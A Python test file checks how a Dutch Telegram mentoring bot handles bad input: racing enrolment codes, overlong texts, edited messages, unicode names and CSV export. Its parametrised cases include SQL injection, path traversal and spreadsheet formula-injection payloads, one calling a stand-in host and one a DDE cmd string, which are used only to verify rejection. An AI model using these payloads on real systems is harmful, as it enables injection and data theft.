"""Bad input: every case gets a clear, polite answer and changes nothing.

Codes that are unknown, used or expired are in tests/e2e/test_enrolment.py; here are the
cases around them (a race for one code, a code that expires while the consent question is
open, odd characters, a code in a group)."""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import timedelta

import pytest
from sqlalchemy import func, select, update

from storage.models import Answer, ConsentRefusal, Invite, Member, StudentQuestion
from tests.harness import Harness
from tests.security.helpers import SORRY, changes, db_state
from tgsandbox import SandboxUser, SentMessage

STARR_KEY = "praktijksituatie"
STARR_LIMIT = 2000  # the default plan's max_length of the STARR question


def is_question(message: SentMessage) -> bool:
    return "Vraag " in (message.text or "") and " van " in (message.text or "")


async def count(h: Harness, model: type, *where: object) -> int:
    async with h.db.transaction() as s:
        return int(await s.scalar(select(func.count()).select_from(model).where(*where)) or 0)


async def starr_open(h: Harness, name: str = "Ilse") -> tuple[int, SandboxUser, SentMessage]:
    """A student in week 1 who answered the three ratings: the STARR text question is open."""
    cohort_id = await h.cohort()
    user = h.api.add_user(name)
    await h.join(user, await h.code(cohort_id))
    await h.state.live().scheduler.push(cohort_id, "reflection", week=1)
    message = await h.api.wait_for_message(
        user, lambda m: "reflectie van week 1" in (m.text or ""), timeout=20
    )
    while "1" in [b["text"] for b in message.buttons()]:
        mark = h.api.mark(user)
        await h.api.press(user, message, "3")
        message = await h.api.wait_for_message(user, is_question, since=mark)
    assert "STARR" in message.text and message.buttons() == []
    return cohort_id, user, message


async def says(h: Harness, user: SandboxUser, send: object) -> SentMessage:
    """Do `send` (a coroutine that sends something as `user`); the bot's next message."""
    mark = h.api.mark(user)
    await send  # type: ignore[misc]
    return await h.api.wait_for_message(user, since=mark)


def no_sorry(h: Harness, *users: SandboxUser) -> bool:
    return not any(SORRY in (m.text or "") for u in users for m in h.api.messages(u))


# ----------------------------------------------------------------------------------- codes


async def test_two_students_race_for_one_code(h: Harness) -> None:
    cohort_id = await h.cohort()
    code = await h.personal_code(cohort_id, "Anna de Vries")
    anna, bram, cem = h.api.add_user("Anna"), h.api.add_user("Bram"), h.api.add_user("Cem")
    offers = [await h.say(user, f"/start {code}") for user in (anna, bram, cem)]
    assert all("Ga je akkoord?" in offer.text for offer in offers)  # offered to all three
    mark = h.api.mark(anna)
    await h.api.press(anna, offers[0], "Ik ga akkoord")
    assert "Dank je, Anna de Vries" in (await h.api.wait_for_message(anna, since=mark)).text
    before = await db_state(h)
    for user, offer, button in (
        (bram, offers[1], "Ik ga akkoord"),
        (cem, offers[2], "Nee, liever niet"),
    ):
        mark = h.api.mark(user)
        await h.api.press(user, offer, button)
        reply = await h.api.wait_for_message(user, since=mark)
        assert "al gebruikt" in reply.text, reply.text
    assert changes(before, await db_state(h)) == {}
    assert await count(h, Member, Member.telegram_user_id.in_([bram.id, cem.id])) == 0
    assert no_sorry(h, anna, bram, cem)


async def test_a_code_that_expires_while_the_consent_question_is_open(h: Harness) -> None:
    cohort_id = await h.cohort()
    code = await h.code(cohort_id)
    dirk = h.api.add_user("Dirk")
    offers = [await h.say(dirk, f"/start {code}") for _ in range(2)]
    async with h.db.transaction() as s:
        past = h.now() - timedelta(minutes=1)
        await s.execute(update(Invite).where(Invite.code == code).values(expires_at=past))
    before = await db_state(h)
    for offer, button in zip(offers, ("Ik ga akkoord", "Nee, liever niet"), strict=True):
        mark = h.api.mark(dirk)
        await h.api.press(dirk, offer, button)
        assert "verlopen" in (await h.api.wait_for_message(dirk, since=mark)).text
    assert changes(before, await db_state(h)) == {}
    assert await count(h, ConsentRefusal) == 0
    assert (await h.say(dirk, "/help")).text.startswith("Hallo!")  # settled
    assert no_sorry(h, dirk)


async def test_a_double_tap_on_the_consent_button(h: Harness) -> None:
    cohort_id = await h.cohort()
    code = await h.code(cohort_id)
    fleur = h.api.add_user("Fleur")
    offer = await h.say(fleur, f"/start {code}")
    data = offer.button("Ik ga akkoord")["callback_data"]
    mark = h.api.mark(fleur)
    queries = await asyncio.gather(*(h.api.press_button(fleur, offer, data) for _ in range(2)))
    for query in queries:
        await h.api.wait_for_callback_answer(query)
    await h.api.send_text(fleur, "/help")  # handled after both taps
    await h.api.wait_for_message(fleur, lambda m: "/verder" in (m.text or ""), since=mark)
    texts = [m.text for m in h.api.messages(fleur)[mark:]]
    assert sum("Dank je, Fleur" in t for t in texts) == 1
    assert not any("al gebruikt" in t for t in texts), texts
    assert await count(h, Member, Member.telegram_user_id == fleur.id) == 1
    assert no_sorry(h, fleur), texts


@pytest.mark.parametrize(
    "code",
    ["' OR '1'='1", "🙂", "../../etc/passwd", "%00", "ABC DEF", "<b>code</b>", "١٢٣٤٥", "c:y:x"],
)
async def test_codes_with_odd_characters_are_unknown(h: Harness, code: str) -> None:
    cohort_id = await h.cohort()
    await h.code(cohort_id)
    eva = h.api.add_user("Eva")
    before = await db_state(h)
    reply = await h.say(eva, f"/start {code}")
    assert reply.text.startswith("Deze code ken ik niet"), reply.text
    assert changes(before, await db_state(h)) == {} and no_sorry(h, eva)


async def test_a_code_sent_in_a_group_is_not_used(h: Harness) -> None:
    cohort_id = await h.cohort()
    code = await h.code(cohort_id)
    eva = h.api.add_user("Eva")
    group = h.api.add_group("Klas")
    await h.api.add_member_to_group(eva, group)
    before = await db_state(h)
    reply = await h.say(eva, f"/start {code}", chat=group)
    assert "privégesprek" in reply.text
    assert changes(before, await db_state(h)) == {}
    assert "Ga je akkoord?" in (await h.say(eva, f"/start {code}")).text  # still valid


# ------------------------------------------------------------------------------ long texts


async def test_a_starr_answer_over_its_max_length_is_not_stored(h: Harness) -> None:
    _cohort, ilse, _question = await starr_open(h)
    before = await db_state(h)
    too_long = ("Situatie: een kind viel van de glijbaan. " * 60)[: STARR_LIMIT + 1]
    reply = await h.say(ilse, too_long)
    assert reply.text == (
        f"Dat bericht is te lang ({STARR_LIMIT + 1} tekens, maximaal {STARR_LIMIT}). "
        "Kun je het korter maken?"
    )
    assert changes(before, await db_state(h)) == {}
    assert "Opgeslagen" in (await h.say(ilse, too_long[:STARR_LIMIT])).text  # exactly the limit
    async with h.db.transaction() as s:
        stored = await s.scalar(select(Answer.text).where(Answer.question_key == STARR_KEY))
    assert stored == too_long[:STARR_LIMIT]


async def test_a_text_over_telegrams_own_limit_is_refused_too(h: Harness) -> None:
    """Telegram never delivers more than 4096 characters, but the sandbox can inject it: the
    bot measures and refuses it like any text over the question's limit."""
    _cohort, ilse, _question = await starr_open(h)
    before = await db_state(h)
    reply = await h.say(ilse, "a" * 5000)
    assert reply.text.startswith("Dat bericht is te lang (5000 tekens, maximaal 2000)")
    assert changes(before, await db_state(h)) == {}


async def test_a_question_for_the_team_over_its_limit_is_not_stored(h: Harness) -> None:
    cohort_id = await h.cohort()
    ilse = h.api.add_user("Ilse")
    await h.join(ilse, await h.code(cohort_id))
    before = await db_state(h)
    reply = await h.say(ilse, "/vraag " + "x" * 2001)
    assert "te lang (2001 tekens, maximaal 2000)" in reply.text
    assert changes(before, await db_state(h)) == {}


async def test_whitespace_only_text_is_not_an_answer(h: Harness) -> None:
    _cohort, ilse, _question = await starr_open(h)
    before = await db_state(h)
    for blank in ("   ", " \n\t \n ", "\u00a0\u2003"):
        reply = await h.say(ilse, blank)
        assert reply.text.startswith("Ik zie geen tekst"), repr(reply.text)
    assert changes(before, await db_state(h)) == {}


# ------------------------------------------------------------------------------ non-text


async def test_stickers_photos_voice_and_locations_while_a_text_question_is_open(
    h: Harness,
) -> None:
    _cohort, ilse, _question = await starr_open(h)
    before = await db_state(h)
    sends = [
        h.api.send_sticker(ilse),
        h.api.send_photo(ilse),
        h.api.send_photo(ilse, caption="Situatie: zie foto"),
        h.api.send_voice(ilse),
        h.api.send_location(ilse, 52.09, 5.12),
        h.api.send_document(ilse, "starr.txt", b"Situatie: ..."),
    ]
    for send in sends:
        reply = await says(h, ilse, send)
        assert reply.text == "Ik kan alleen tekst en knoppen lezen. Wil je je antwoord typen?"
    assert changes(before, await db_state(h)) == {}
    assert "Opgeslagen" in (await h.say(ilse, "Situatie: ik las voor.")).text  # still open
    assert no_sorry(h, ilse)


# ------------------------------------------------------------------------- edited messages

EDITED = "Je hebt een bericht aangepast. Een aanpassing lees ik niet."


def own_message(h: Harness, user: SandboxUser, text: str) -> SentMessage:
    return next(
        m
        for m in reversed(h.api.bot().messages(user.id, include_user=True))
        if m.from_user is not None and m.text == text
    )


async def test_an_edited_answer_is_answered_politely_and_never_stored_twice(h: Harness) -> None:
    _cohort, ilse, _question = await starr_open(h)
    # an edit of an older message while the text question is open is not taken as the answer
    await h.say(ilse, "/help")
    before = await db_state(h)
    reply = await says(
        h, ilse, h.api.edit_text(ilse, own_message(h, ilse, "/help").message_id, "Situatie: x")
    )
    assert reply.text.startswith(EDITED)
    assert changes(before, await db_state(h)) == {}

    reply = await h.say(ilse, "Eerste versie")
    assert "Opgeslagen" in reply.text and is_question(reply)  # one message: saved, and next
    before = await db_state(h)
    first = own_message(h, ilse, "Eerste versie")
    for text in ("Tweede versie", "Derde versie"):
        reply = await says(h, ilse, h.api.edit_text(ilse, first.message_id, text))
        assert reply.text.startswith(EDITED)
    assert changes(before, await db_state(h)) == {}
    async with h.db.transaction() as s:
        texts = list(await s.scalars(select(Answer.text).where(Answer.question_key == STARR_KEY)))
    assert texts == ["Eerste versie"]
    assert no_sorry(h, ilse)


async def test_an_edited_command_does_not_run_again(h: Harness) -> None:
    cohort_id = await h.cohort()
    docent, ilse = h.api.add_user("Docent"), h.api.add_user("Ilse")
    await h.say(docent, f"/start {await h.code(cohort_id, 'mentor')}")
    await h.join(ilse, await h.code(cohort_id))
    assert "opgeslagen" in (await h.say(docent, "/verwachting Oefen een kringgesprek.")).text
    assert "naar je mentorteam gestuurd" in (await h.say(ilse, "/vraag Mag ik ruilen?")).text
    before = await db_state(h)
    command = own_message(h, docent, "/verwachting Oefen een kringgesprek.")
    edit = h.api.edit_text(docent, command.message_id, "/verwachting Iets heel anders.")
    assert (await says(h, docent, edit)).text.startswith(EDITED)
    question = own_message(h, ilse, "/vraag Mag ik ruilen?")
    edit = h.api.edit_text(ilse, question.message_id, "/vraag Mag ik nog iets vragen?")
    assert (await says(h, ilse, edit)).text.startswith(EDITED)
    assert changes(before, await db_state(h)) == {}
    assert await count(h, StudentQuestion) == 1


async def test_an_edit_in_a_group_is_ignored_quietly(h: Harness) -> None:
    cohort_id = await h.cohort()
    docent = h.api.add_user("Docent")
    await h.say(docent, f"/start {await h.code(cohort_id, 'mentor')}")
    group = h.api.add_group("Mentorteam")
    await h.api.add_member_to_group(docent, group)
    await h.api.send_text(docent, "Wie neemt de koffie mee?", chat=group)
    message = next(
        m for m in h.api.bot().messages(group.id, include_user=True) if m.from_user is not None
    )
    before, mark = await db_state(h), h.api.mark(group)
    await h.api.edit_text(docent, message.message_id, "Wie neemt de thee mee?", chat=group)
    help_reply = await h.say(docent, "/help", chat=group)  # handled after the edit
    assert "Je zit in het mentorteam van PW3A" in help_reply.text
    assert h.api.messages(group)[mark:] == [help_reply]  # nothing about the edit
    assert changes(before, await db_state(h)) == {}


# --------------------------------------------------------------- commands without argument


async def test_commands_without_their_argument_explain_how(h: Harness) -> None:
    cohort_id = await h.cohort()
    docent, ilse = h.api.add_user("Docent"), h.api.add_user("Ilse")
    await h.say(docent, f"/start {await h.code(cohort_id, 'mentor')}")
    await h.join(ilse, await h.code(cohort_id))
    group = h.api.add_group("Mentorteam")
    await h.api.add_member_to_group(docent, group)
    before = await db_state(h)
    cases = [
        (ilse, None, "/vraag", "Stuur je vraag zo: /vraag gevolgd door je vraag."),
        (ilse, None, "/vraag    ", "Stuur je vraag zo: /vraag gevolgd door je vraag."),
        (ilse, None, "/taal", "Kies een taal: /taal nl of /taal en."),
        (ilse, None, "/taal 🙂", "Kies een taal: /taal nl of /taal en."),
        (ilse, None, "/koppel", "/koppel werkt alleen in een groep."),
        (docent, None, "/student", "Gebruik: /student gevolgd door"),
        (docent, None, "/antwoord", "Gebruik: /antwoord <nummer> <je antwoord>."),
        (docent, None, "/antwoord 5", "Gebruik: /antwoord <nummer> <je antwoord>."),
        (docent, None, "/antwoord abc hallo", "Gebruik: /antwoord <nummer> <je antwoord>."),
        (docent, None, "/verwachting", "Gebruik: /verwachting gevolgd door"),
        (docent, None, "/verwachting   ", "Gebruik: /verwachting gevolgd door"),
        (docent, None, "/nu", "Gebruik: /nu verwachtingen, /nu reflectie of /nu observatie"),
        (docent, None, "/nu onzin", "Gebruik: /nu verwachtingen, /nu reflectie of /nu observatie"),
        (docent, None, "/taal", "Kies een taal: /taal nl of /taal en."),
        (docent, group, "/koppel", "Stuur in de groep van het mentorteam /koppel gevolgd door"),
    ]
    for user, chat, command, expected in cases:
        reply = await h.say(user, command, chat=chat)
        assert reply.text.startswith(expected), (command, reply.text)
    assert changes(before, await db_state(h)) == {}
    assert no_sorry(h, docent, ilse)


# ------------------------------------------------------------------------- unicode names

NAMES = [
    ("مريم", "الحسن"),  # Arabic, right to left
    ("שירה", "כהן"),  # Hebrew, right to left
    ("Zoë 🌸", None),  # an emoji outside the BMP (2 UTF-16 units)
    ("Ŝtefan‍👩‍💻", "Ñúñez"),  # a zero-width joiner sequence
    ("<b>Bob</b> & Co", None),  # markup characters: shown as typed, never parsed
    ("Wilhelmina Catharina Josephine Ana Maria van der Berg-Oosterhout", None),
]


async def test_names_in_any_script_join_and_appear_in_the_overview(h: Harness) -> None:
    longest = NAMES[-1][0]
    assert len(longest) == 64  # Telegram's longest first name
    cohort_id = await h.cohort()
    docent = h.api.add_user("Docent")
    await h.say(docent, f"/start {await h.code(cohort_id, 'mentor')}")
    students = [h.api.add_user(first, last) for first, last in NAMES]
    full = [" ".join(p for p in names if p) for names in NAMES]
    for user, name in zip(students, full, strict=True):
        welcome = await h.join(user, await h.code(cohort_id))
        assert welcome.text.startswith(f"Dank je, {name}!") or f"Dank je, {name}" in welcome.text
    async with h.db.transaction() as s:
        stored = set(await s.scalars(select(Member.name).where(Member.role == "student")))
    assert stored == set(full)
    await h.state.live().scheduler.push(cohort_id, "reflection", week=1)
    for user in students:
        await h.api.wait_for_message(user, lambda m: "reflectie" in (m.text or ""), timeout=20)
    overview = await h.say(docent, "/overzicht")
    assert "Ingevuld: 0 van 6" in overview.text
    for name in full:
        assert name in overview.text, name
    for query, name in (
        ("مريم", full[0]),
        ("כהן", full[1]),
        ("Bob", full[4]),
        ("Oosterhout", longest),
    ):
        history = await h.say(docent, f"/student {query}")
        assert name in history.text, (query, history.text)
    assert no_sorry(h, docent, *students)


# ----------------------------------------------------------------------- concurrent taps


async def test_ten_concurrent_taps_of_one_rating_store_one_answer(h: Harness) -> None:
    cohort_id = await h.cohort()
    tess = h.api.add_user("Tess")
    await h.join(tess, await h.code(cohort_id))
    await h.state.live().scheduler.push(cohort_id, "reflection", week=1)
    first = await h.api.wait_for_message(tess, lambda m: "reflectie" in (m.text or ""), timeout=20)
    data = next(b["callback_data"] for b in first.buttons() if b["text"] == "4")
    mark = h.api.mark(tess)
    queries = await asyncio.gather(*(h.api.press_button(tess, first, data) for _ in range(10)))
    answers = [(await h.api.wait_for_callback_answer(q)).text for q in queries]
    assert answers.count("Opgeslagen ✓") == 1
    assert answers.count("Dat antwoord had je al gegeven.") == 9
    await h.api.wait_for_message(tess, is_question, since=mark)
    assert (await h.say(tess, "/help")).text.startswith(
        "Ik ben de bot van je mentorteam"
    )  # settled
    asked = [m for m in h.api.messages(tess)[mark:] if is_question(m)]
    assert len(asked) == 1 and "Vraag 2 van" in asked[0].text
    async with h.db.transaction() as s:
        rows = list(await s.execute(select(Answer.question_key, Answer.rating)))
    assert [tuple(r) for r in rows] == [("rating-veilig-klimaat", 4)]
    assert no_sorry(h, tess)


async def test_a_typed_reply_to_a_closed_rounds_question(h: Harness) -> None:
    cohort_id, ilse, starr = await starr_open(h)
    await h.state.live().scheduler.push(cohort_id, "reflection", week=2)  # closes week 1
    await h.api.wait_for_message(
        ilse, lambda m: "reflectie van week 2" in (m.text or ""), timeout=20
    )
    before = await db_state(h)
    reply = await h.say(ilse, "Situatie: te laat, maar toch.", reply_to=starr)
    assert changes(before, await db_state(h)) == {}  # holds today
    assert "De vragen van die week zijn gesloten" in reply.text, reply.text


async def test_mentor_texts_over_their_limit_are_not_stored(h: Harness) -> None:
    cohort_id = await h.cohort()
    docent, ilse = h.api.add_user("Docent"), h.api.add_user("Ilse")
    await h.say(docent, f"/start {await h.code(cohort_id, 'mentor')}")
    await h.join(ilse, await h.code(cohort_id))
    assert "naar je mentorteam gestuurd" in (await h.say(ilse, "/vraag Mag ik ruilen?")).text
    async with h.db.transaction() as s:
        question_id = await s.scalar(select(StudentQuestion.id))
    before = await db_state(h)
    long = "Oefen een kringgesprek. " * 146  # 3504 characters, under Telegram's 4096
    reply = await h.say(docent, f"/verwachting {long.strip()}")
    assert reply.text == "Die tekst is te lang (3503 tekens, hooguit 3500)."
    reply = await h.say(docent, f"/antwoord {question_id} {long.strip()}")
    assert reply.text == "Dat antwoord is te lang (3503 tekens, hooguit 3500)."
    assert changes(before, await db_state(h)) == {}


async def test_names_and_answers_that_look_like_formulas_are_quoted_in_the_export(
    h: Harness,
) -> None:
    cohort_id = await h.cohort()
    docent = h.api.add_user("Docent")
    await h.say(docent, f"/start {await h.code(cohort_id, 'mentor')}")
    user = h.api.add_user('=HYPERLINK("http://x.example/?"&A1)', None)
    await h.join(user, await h.code(cohort_id))
    await h.state.live().scheduler.push(cohort_id, "reflection", week=1)
    message = await h.api.wait_for_message(
        user, lambda m: "reflectie van week 1" in (m.text or ""), timeout=20
    )
    while "1" in [b["text"] for b in message.buttons()]:
        mark = h.api.mark(user)
        await h.api.press(user, message, "3")
        message = await h.api.wait_for_message(user, is_question, since=mark)
    assert "Opgeslagen" in (await h.say(user, "@SUM(1+1)*cmd|' /C calc'!A0")).text
    export = await h.say(docent, "/export")
    assert export.document is not None
    rows = list(csv.reader(io.StringIO(export.document.data.decode("utf-8"))))
    students = {row[1] for row in rows[1:]}
    texts = {row[6] for row in rows[1:]} - {""}
    assert students == {"'" + '=HYPERLINK("http://x.example/?"&A1)'}
    assert texts == {"'@SUM(1+1)*cmd|' /C calc'!A0"}


async def test_a_message_of_invisible_characters_is_not_an_answer(h: Harness) -> None:
    _cohort, ilse, _question = await starr_open(h)
    before = await db_state(h)
    for blank in ("\u200b", "\u3164", "\u2800\u2800", "\u200b \u200d"):
        reply = await h.say(ilse, blank)
        assert reply.text.startswith("Ik zie geen tekst"), (repr(blank), reply.text)
    assert changes(before, await db_state(h)) == {}


async def test_a_blank_reply_to_the_question_prompt_reaches_nobody(h: Harness) -> None:
    cohort_id = await h.cohort()
    ilse = h.api.add_user("Ilse")
    await h.join(ilse, await h.code(cohort_id))
    await h.state.live().scheduler.push(cohort_id, "expectations", week=1)
    week1 = await h.api.wait_for_message(ilse, lambda m: "Week 1" in (m.text or ""), timeout=20)
    mark = h.api.mark(ilse)
    await h.api.press(ilse, week1, "Vraag hierover")
    prompt = await h.api.wait_for_message(ilse, since=mark)
    assert "Typ je vraag" in prompt.text
    before = await db_state(h)
    reply = await h.say(ilse, "   \n  ", reply_to=prompt)
    assert "naar je mentorteam gestuurd" not in reply.text, reply.text
    assert changes(before, await db_state(h)) == {}
